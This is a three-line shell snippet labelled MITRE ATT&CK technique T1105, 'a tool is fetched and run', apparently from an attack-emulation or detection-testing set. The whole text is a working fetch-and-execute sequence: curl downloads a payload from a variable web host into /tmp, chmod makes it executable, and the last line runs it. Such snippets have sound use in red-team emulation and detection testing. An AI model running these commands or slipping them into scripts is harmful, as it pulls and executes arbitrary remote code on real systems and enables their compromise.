# technique: T1105
# title: a tool is fetched and run
curl -s -o /tmp/stage "http://$WEB/payload"
chmod +x /tmp/stage
/tmp/stage
